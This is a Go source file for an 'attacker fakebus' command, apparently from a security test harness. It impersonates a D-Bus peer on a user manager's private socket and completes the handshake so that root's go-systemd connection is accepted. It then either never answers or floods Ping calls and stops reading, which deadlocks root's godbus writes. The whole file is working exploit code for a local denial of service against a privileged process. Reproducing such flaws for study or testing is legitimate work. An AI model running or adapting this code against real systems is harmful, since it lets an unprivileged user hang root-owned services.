//go:build linux

package main

import (
	"bufio"
	"bytes"
	"encoding/binary"
	"errors"
	"fmt"
	"net"
	"os"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	godbus "github.com/godbus/dbus/v5"
)

// cmdFakeBus: attacker fakebus [-mode silent|flood] [-n N] [-for D]
// [-stop FILE] [-ready FILE] SOCKET (tester Z).
//
// Listens on SOCKET (her user manager's private socket, moved aside) as a
// D-Bus peer that completes the handshake (AUTH EXTERNAL: OK, unix fds
// agreed, BEGIN) and answers org.freedesktop.DBus.AddMatch, which
// go-systemd's NewConnection waits for, so that root's connection is
// made. Then, on the first other method call of a connection:
//
//	silent: keeps reading and never answers anything else;
//	flood:  stops reading, and sends N org.freedesktop.DBus.Peer.Ping
//	        method calls, which godbus answers by itself, each reply
//	        written by its own goroutine: once root's send buffer is
//	        full (she reads nothing), every write of root's on that
//	        connection blocks, with no deadline, holding godbus's send
//	        lock and the read side of its "closed" lock.
func cmdFakeBus(args []string) error {
	fs, d, stop, ready := listenFlags("fakebus")
	mode := fs.String("mode", "flood", "silent or flood")
	n := fs.Int("n", 4000, "pings to send (flood)")
	if err := fs.Parse(args); err != nil {
		return err
	}
	if fs.NArg() != 1 {
		return errors.New("usage: attacker fakebus [-mode silent|flood] SOCKET")
	}
	path := fs.Arg(0)
	l, err := net.Listen("unix", path)
	if err != nil {
		return err
	}
	defer os.Remove(path)
	if *ready != "" {
		if err := os.WriteFile(*ready, []byte("listening on "+path+"\n"), 0o644); err != nil {
			return err
		}
	}
	var (
		mu    sync.Mutex
		conns []net.Conn
		stats struct{ accepted, addmatch, calls, flooded atomic.Int64 }
		log   []string
	)
	logf := func(f string, a ...any) {
		mu.Lock()
		log = append(log, time.Now().Format("15:04:05.000")+" "+fmt.Sprintf(f, a...))
		mu.Unlock()
	}
	go func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			stats.accepted.Add(1)
			mu.Lock()
			conns = append(conns, c)
			mu.Unlock()
			go func(c net.Conn, id int64) {
				// serveFake ends only on an error (the connection closed).
				logf("conn %d: %v", id, serveFake(c, id, *mode, *n, logf, &stats.addmatch, &stats.calls, &stats.flooded))
			}(c, stats.accepted.Load())
		}
	}()
	for end := time.Now().Add(*d); time.Now().Before(end); time.Sleep(50 * time.Millisecond) {
		if *stop != "" {
			if _, err := os.Lstat(*stop); err == nil {
				break
			}
		}
	}
	_ = l.Close()
	mu.Lock()
	for _, c := range conns {
		_ = c.Close()
	}
	fmt.Printf("fakebus %s (%s): %d connections, %d AddMatch answered, %d other calls unanswered, %d connections flooded\n%s\n",
		path, *mode, stats.accepted.Load(), stats.addmatch.Load(), stats.calls.Load(), stats.flooded.Load(), strings.Join(log, "\n"))
	mu.Unlock()
	return nil
}

func serveFake(c net.Conn, id int64, mode string, n int, logf func(string, ...any), addmatch, calls, flooded *atomic.Int64) error {
	in := bufio.NewReader(c)
	// The handshake, line by line.
	nul := make([]byte, 1)
	if _, err := in.Read(nul); err != nil {
		return err
	}
	for {
		line, err := in.ReadString('\n')
		if err != nil {
			return fmt.Errorf("handshake: %w", err)
		}
		line = strings.TrimRight(line, "\r\n")
		switch {
		case line == "AUTH":
			_, err = c.Write([]byte("REJECTED EXTERNAL\r\n"))
		case strings.HasPrefix(line, "AUTH EXTERNAL"):
			_, err = c.Write([]byte("OK 0123456789abcdef0123456789abcdef\r\n"))
		case line == "NEGOTIATE_UNIX_FD":
			_, err = c.Write([]byte("AGREE_UNIX_FD\r\n"))
		case line == "BEGIN":
			logf("conn %d: handshake done", id)
			goto messages
		default:
			_, err = c.Write([]byte("ERROR\r\n"))
		}
		if err != nil {
			return err
		}
	}
messages:
	var serial uint32 = 1000
	for {
		msg, err := godbus.DecodeMessage(in)
		if err != nil {
			return fmt.Errorf("read: %w", err)
		}
		if msg.Type != godbus.TypeMethodCall {
			continue
		}
		member, _ := msg.Headers[godbus.FieldMember].Value().(string)
		if member == "AddMatch" {
			addmatch.Add(1)
			reply := &godbus.Message{Type: godbus.TypeMethodReply, Headers: map[godbus.HeaderField]godbus.Variant{
				godbus.FieldReplySerial: godbus.MakeVariant(msg.Serial()),
			}}
			b, err := encodeSerial(reply, serial)
			serial++
			if err != nil {
				return err
			}
			if _, err := c.Write(b); err != nil {
				return err
			}
			logf("conn %d: answered AddMatch", id)
			continue
		}
		calls.Add(1)
		logf("conn %d: call %s, not answered", id, member)
		if mode != "flood" {
			continue
		}
		flooded.Add(1)
		w := bufio.NewWriter(c)
		for i := 0; i < n; i++ {
			ping := &godbus.Message{Type: godbus.TypeMethodCall, Headers: map[godbus.HeaderField]godbus.Variant{
				godbus.FieldPath:      godbus.MakeVariant(godbus.ObjectPath("/")),
				godbus.FieldInterface: godbus.MakeVariant("org.freedesktop.DBus.Peer"),
				godbus.FieldMember:    godbus.MakeVariant("Ping"),
			}}
			b, err := encodeSerial(ping, serial)
			serial++
			if err != nil {
				return err
			}
			if _, err := w.Write(b); err != nil {
				return err
			}
		}
		if err := w.Flush(); err != nil {
			return err
		}
		logf("conn %d: sent %d pings, reads nothing more", id, n)
		// Read nothing more: root's replies fill its send buffer.
		select {}
	}
}

// encodeSerial encodes msg (little endian) with the serial s, which
// godbus sets only on messages it sends itself (offset 8 of the header).
func encodeSerial(msg *godbus.Message, s uint32) ([]byte, error) {
	var b bytes.Buffer
	if err := msg.EncodeTo(&b, binary.LittleEndian); err != nil {
		return nil, err
	}
	out := b.Bytes()
	binary.LittleEndian.PutUint32(out[8:12], s)
	return out, nil
}
